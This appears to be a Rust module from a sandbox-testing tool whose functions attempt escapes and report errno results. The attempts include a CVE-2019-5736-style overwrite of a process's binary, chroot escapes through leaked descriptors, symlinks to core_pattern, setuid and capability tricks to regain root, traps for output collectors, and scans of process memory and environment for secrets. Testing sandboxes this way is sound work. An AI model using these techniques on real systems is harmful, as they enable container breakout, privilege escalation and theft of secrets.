//! Ways out of a sandbox through the code that sets it up: its descriptors, its program, its mounts, its collecting of
//! output and its cleaning up, as public escapes went.

#![allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)] // arguments of system calls are 64 bits of anything

use std::fs::{self, File};
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::os::fd::{AsRawFd, IntoRawFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Map, Value, json};

use crate::raw::{address, c_path, errno, in_child, text, told_by_child, try_call};
use crate::sys::{Forked, exit_now, fork, wait_for};
use crate::{Result, say};

fn code<T>(result: &io::Result<T>) -> i64 {
    result.as_ref().map_or_else(|error| i64::from(error.raw_os_error().unwrap_or(-1)), |_| 0)
}

/// Keeps the program of a running process open, waits for the process's end, and writes over the program: by
/// CVE-2019-5736. `pid` is one that may be killed, or `self`, or the init of a sandbox.
pub(crate) fn overwrite_program(pid: &str) -> Result<Value> {
    let exe = format!("/proc/{pid}/exe");
    let opened = File::open(&exe);
    let open = code(&opened);
    let at_once = code(&File::options().write(true).open(&exe));
    let mut later = open;
    if let Ok(file) = opened {
        if let Ok(victim @ 2..) = pid.parse() {
            crate::sys::kill(victim, libc::SIGKILL);
        }
        let deadline = Instant::now() + Duration::from_secs(2);
        later = loop {
            let again = File::options().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
            let busy = code(&again) == i64::from(libc::ETXTBSY) && pid != "self";
            if !busy || Instant::now() > deadline {
                break code(&again.and_then(|mut program| program.write_all(b"overwritten")));
            }
            std::thread::sleep(Duration::from_millis(5));
        };
    }
    Ok(json!({"read": open, "write": at_once, "write after its end": later}))
}

/// Leaves a directory open, as a careless launcher would, and changes the root to `DIR/root`, with the working
/// directory outside.
pub(crate) fn leak(dir: &str) -> Result<()> {
    let kept = File::open(dir)?.into_raw_fd();
    try_call(libc::SYS_dup2, [kept.cast_unsigned() as usize, 9]);
    std::env::set_current_dir(dir)?;
    let root = c_path(&Path::new(dir).join("root"))?;
    match errno(try_call(libc::SYS_chroot, [text(&root)])) {
        0 => Ok(()),
        code => Err(format!("chroot: {code}").into()),
    }
}

/// What is open of the numbers up to 1,024, its kind, and whether it or the working directory leads to a `secret`.
pub(crate) fn descriptors() -> Value {
    let mut open = Map::new();
    let mut ways = Vec::new();
    let reach = |dir: usize, path: &std::ffi::CStr| {
        let found = try_call(libc::SYS_openat, [dir, text(path), libc::O_PATH as usize]);
        if found >= 0 {
            try_call(libc::SYS_close, [found.cast_unsigned()]);
        }
        found >= 0
    };
    for fd in 0..=1024 {
        if try_call(libc::SYS_fcntl, [fd, libc::F_GETFD as usize]) < 0 {
            continue;
        }
        let mut stat = [0_u64; 18];
        try_call(libc::SYS_fstat, [fd, std::ptr::from_mut(&mut stat) as usize]);
        let mut fs = [0_i64; 15];
        try_call(libc::SYS_fstatfs, [fd, std::ptr::from_mut(&mut fs) as usize]);
        let kind = format!("{:o}", stat[3] & u64::from(libc::S_IFMT)); // st_mode is the low half
        open.insert(fd.to_string(), json!({"kind": kind, "fs": format!("{:#x}", fs[0])}));
        for path in [c"secret", c"../secret", c".."] {
            if reach(fd, path) {
                ways.push(format!("{fd} {}", path.to_string_lossy()));
            }
        }
    }
    for path in [c"secret", c"../secret", c"/proc/self/cwd/secret", c"../../../../../../../etc/passwd", c"/etc/passwd"]
    {
        if reach(libc::AT_FDCWD as usize, path) {
            ways.push(format!("cwd {}", path.to_string_lossy()));
        }
    }
    let inode = |path: &str| fs::metadata(path).map(|metadata| (metadata.dev(), metadata.ino())).ok();
    let cwd = fs::read_link("/proc/self/cwd").map(|path| path.display().to_string()).unwrap_or_default();
    json!({"open": open, "ways out": ways, "cwd": cwd, "parent is root": inode("..") == inode("/")})
}

/// What stands where the system's own files should: the type of the file system, and numbers of devices.
pub(crate) fn ground() -> Result<Value> {
    let magic = |path: &str| -> Result<String> {
        let (path, mut found) = (c_path(Path::new(path))?, [0_i64; 15]);
        let answer = try_call(libc::SYS_statfs, [text(&path), std::ptr::from_mut(&mut found) as usize]);
        Ok(if answer == 0 { format!("{:#x}", found[0]) } else { format!("errno {}", errno(answer)) })
    };
    let mut all = Map::new();
    for path in ["/", "/bin", "/dev", "/dev/null", "/proc", "/proc/self/status", "/proc/self/attr/current", "/tmp"] {
        all.insert(path.to_owned(), json!(magic(path)?));
    }
    let device = |name: &str| {
        let number = fs::symlink_metadata(format!("/dev/{name}")).map(|metadata| metadata.rdev()).unwrap_or(0);
        json!([libc::major(number), libc::minor(number)])
    };
    let names = ["null", "zero", "full", "random", "urandom", "tty"];
    all.insert("devices".to_owned(), names.into_iter().map(|name| (name.to_owned(), device(name))).collect());
    Ok(all.into())
}

/// Puts something else in the place of each of these: by name the errnos of unlinking, renaming, covering.
pub(crate) fn replace(paths: &[&str]) -> Value {
    let mut all = Map::new();
    for path in paths {
        let aside = format!("{path}.aside");
        let rename = code(&fs::rename(path, &aside));
        let link = code(&symlink("/proc/sys/kernel/core_pattern", path));
        let unlink = code(&fs::remove_file(path));
        let create = code(&File::create_new(format!("{path}.new")));
        let chmod = code(&fs::set_permissions(
            if rename == 0 { aside.as_str() } else { *path },
            PermissionsExt::from_mode(0o600),
        ));
        all.insert(
            (*path).to_owned(),
            json!({"rename": rename, "link": link, "unlink": unlink, "create": create, "chmod": chmod}),
        );
    }
    all.into()
}

/// Links in `dir` with the names of a root's directories, pointing out of it.
pub(crate) fn plant_links(dir: &str, target: &str) -> Result<()> {
    for name in ["bin", "dev", "proc", "tmp", "new", "output", ".landlock"] {
        symlink(target, Path::new(dir).join(name))?;
    }
    Ok(())
}

/// Everything that a collector of output could stumble over, in `dir`: a link to `target`, a pipe that nobody feeds, a
/// device, a hard link, a sparse file of 1 TiB. Tells which were made. Then says a word on standard output, and another
/// one to a file that took its number.
pub(crate) fn disguise_output(dir: &str, target: &str) -> Result<()> {
    let dir = PathBuf::from(dir);
    let names = ["output", "stdout", "stderr", "result.json"];
    let fifo = c_path(&dir.join("fifo"))?;
    let device = c_path(&dir.join("device"))?;
    let mknod = |at: &std::ffi::CString, kind: u32, number: u64| {
        errno(try_call(libc::SYS_mknod, [text(at), (kind | 0o666) as usize, number as usize]))
    };
    let made = json!({
        "links": names.iter().map(|name| code(&symlink(target, dir.join(name)))).collect::<Vec<_>>(),
        "fifo": mknod(&fifo, libc::S_IFIFO, 0),
        "device": mknod(&device, libc::S_IFCHR, libc::makedev(1, 5)),
        "hard link": code(&fs::hard_link(target, dir.join("hard"))),
        "sparse": code(&File::create(dir.join("sparse")).and_then(|file| file.set_len(1 << 40))),
        "/dev/stdout": code(&fs::remove_file("/dev/stdout.none").and_then(|()| fs::remove_file("/dev/stdout"))),
    });
    say(&made.to_string())?;
    let instead = File::create(dir.join("instead"))?;
    try_call(libc::SYS_dup2, [instead.as_raw_fd().cast_unsigned() as usize, 1]);
    say("this went to a file of the job's own")
}

/// Directories in directories until it is refused or they are 12,000 deep, then files beside each other until that is
/// refused or there are `most` in all. Leaves them. Tells how many, and what removing the deepest by its path gives.
pub(crate) fn deep_and_wide(most: usize) -> Result<Value> {
    const DEEPEST: usize = 12_000;
    const STEP: usize = 100;
    let home = std::env::temp_dir();
    std::env::set_current_dir(&home)?;
    symlink("/", "way-out")?;
    let mut depth = 0;
    let step = vec!["d"; STEP].join("/");
    // by chains that are moved to the end: Landlock walks up all the way for each directory that is made
    while depth < most.min(DEEPEST) {
        let chain = home.join("chain");
        let made = fs::create_dir_all(chain.join(&step["d/".len()..])).and_then(|()| fs::rename(&chain, "d"));
        if made.is_err() {
            break;
        }
        std::env::set_current_dir(&step)?;
        depth += STEP;
    }
    std::env::set_current_dir(&home)?;
    let mut width = 0;
    while depth + width < most && File::create(format!("f{width}")).is_ok() {
        width += 1;
    }
    let path = home.join(vec!["d"; depth].join("/"));
    Ok(json!({"depth": depth, "width": width, "remove by path": code(&fs::remove_dir(path))}))
}

/// Connects to each: `HOST:PORT`, or `@NAME` for an abstract socket, or a path. By its name the errno.
pub(crate) fn connect(targets: &[&str]) -> Value {
    use std::os::linux::net::SocketAddrExt;
    use std::os::unix::net::{SocketAddr, UnixStream};
    let connect = |target: &str| match target.strip_prefix('@') {
        Some(name) => {
            code(&SocketAddr::from_abstract_name(name).and_then(|address| UnixStream::connect_addr(&address)))
        }
        None if target.starts_with('/') => code(&UnixStream::connect(target)),
        None => match target.parse() {
            Ok(address) => code(&TcpStream::connect_timeout(&address, Duration::from_millis(500))),
            Err(_) => -1,
        },
    };
    targets.iter().map(|target| ((*target).to_owned(), json!(connect(target)))).collect::<Map<_, _>>().into()
}

/// Makes a program of its own that gives its owner's id to whoever runs it, and runs it as another user; asks for
/// capabilities by every call there is.
pub(crate) fn regain_privilege() -> Result<Value> {
    const NOBODY: usize = 65534;
    let path = std::env::temp_dir().join("privileged");
    let copied = code(&fs::copy("/proc/self/exe", &path));
    let marked = code(&fs::set_permissions(&path, PermissionsExt::from_mode(0o4755)));
    let program = c_path(&path)?;
    // as `vfs_cap_data`: revision 2 and effective, then permitted and inheritable sets
    let capabilities: [u32; 5] = [0x0200_0001, 0x20, 0, 0, 0];
    let attribute = [text(&program), text(c"security.capability"), address(&capabilities), 20, 0];
    let set = errno(try_call(libc::SYS_setxattr, attribute));
    let ran = told_by_child(|| {
        try_call(libc::SYS_setresuid, [NOBODY, NOBODY, NOBODY]);
        let args = [text(&program), text(c"effective-id"), 0];
        // an exec that works ends with the id as its exit code
        match fork() {
            Ok(Forked::Child) => {
                let answer = try_call(libc::SYS_execve, [text(&program), address(&args), 0]);
                exit_now(i32::try_from(200 + errno(answer) % 50).unwrap_or(255))
            }
            Ok(Forked::Parent(child)) => wait_for(child).map_or(-1, i64::from),
            Err(_) => -1,
        }
    })?;
    let header = [0x2008_0522_u32, 0];
    let wanted = [u32::MAX; 6];
    Ok(json!({
        "copy": copied,
        "mark": marked,
        "attribute": set,
        "exit code of the marked": ran,
        "capset": told_by_child(|| errno(try_call(libc::SYS_capset, [address(&header), address(&wanted)])))?,
        "ambient": told_by_child(|| errno(try_call(libc::SYS_prctl, [47, 2, 21, 0, 0])))?, // raise CAP_SYS_ADMIN
        "setuid": told_by_child(|| errno(try_call(libc::SYS_setuid, [0])))?,
        "setgroups": told_by_child(|| errno(try_call(libc::SYS_setgroups, [0, 0])))?,
    }))
}

/// Where `needle`, given backwards, stands in this process: in its memory, and in files of other processes.
pub(crate) fn search_memory(reversed: &str) -> Result<Value> {
    let needle: Vec<u8> = reversed.bytes().rev().collect();
    let mut memory = File::open("/proc/self/mem")?;
    let mut found = Vec::new();
    for line in fs::read_to_string("/proc/self/maps")?.lines() {
        let words: Vec<&str> = line.split_whitespace().collect();
        let (start, end) = words[0].split_once('-').ok_or("a mapping without an end")?;
        let (start, end) = (u64::from_str_radix(start, 16)?, u64::from_str_radix(end, 16)?);
        // this search's own copy is on the heap
        let name = words.get(5).copied().unwrap_or("anonymous");
        if !words[1].starts_with('r') || ["[heap]", "[vvar]", "[vvar_vclock]", "[vsyscall]"].contains(&name) {
            continue;
        }
        let mut content = vec![0; usize::try_from(end - start)?];
        let read = io::Seek::seek(&mut memory, io::SeekFrom::Start(start)).and_then(|_| memory.read(&mut content));
        let read = read.unwrap_or(0);
        if content[..read].windows(needle.len()).any(|window| window == needle) {
            found.push(name.to_owned());
        }
    }
    let mut files = Vec::new();
    for pid in
        fs::read_dir("/proc")?.flatten().filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
    {
        for file in ["environ", "cmdline"] {
            let content = fs::read(pid.path().join(file)).unwrap_or_default();
            if content.windows(needle.len()).any(|window| window == needle) {
                files.push(file);
            }
        }
    }
    found.dedup();
    Ok(json!({"memory": found, "files": files}))
}

/// Dies with a core, in `TMPDIR`. Tells whether there is one then.
pub(crate) fn leave_core() -> Result<Value> {
    std::env::set_current_dir(std::env::temp_dir())?;
    let limit = [u64::MAX; 2];
    let raised = errno(try_call(libc::SYS_setrlimit, [libc::RLIMIT_CORE as usize, address(&limit)]));
    in_child(Duration::from_secs(5), || _ = crate::sys::raise(libc::SIGQUIT))?;
    let cores = fs::read_dir(".")?.flatten().filter(|entry| entry.file_name().to_string_lossy().starts_with("core"));
    Ok(json!({"raise the limit": raised, "cores": cores.count()}))
}

/// The files below `root` that can be opened to be written to, and how often each errno refused. Nothing is written.
/// Links are tried too, but not followed into directories.
pub(crate) fn open_for_writing(root: &str) -> Value {
    let (mut opened, mut refused, mut seen) = (Vec::new(), std::collections::BTreeMap::<i64, u32>::new(), 0);
    let mut waiting = vec![PathBuf::from(root)];
    let own = std::process::id().to_string();
    while let Some(path) = waiting.pop() {
        let Ok(metadata) = fs::symlink_metadata(&path) else { continue };
        if metadata.is_dir() {
            *refused.entry(code(&fs::create_dir(path.join("probe-dir")))).or_default() += 1;
            waiting.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
            continue;
        }
        seen += 1;
        let flags = libc::O_NONBLOCK | libc::O_NOCTTY;
        let mut options = File::options();
        match code(&std::os::unix::fs::OpenOptionsExt::custom_flags(options.write(true), flags).open(&path)) {
            0 => opened.push(path.display().to_string().replace(&own, "PID")),
            errno => *refused.entry(errno).or_default() += 1,
        }
    }
    opened.sort();
    json!({"opened": opened, "refused": refused, "seen": seen})
}
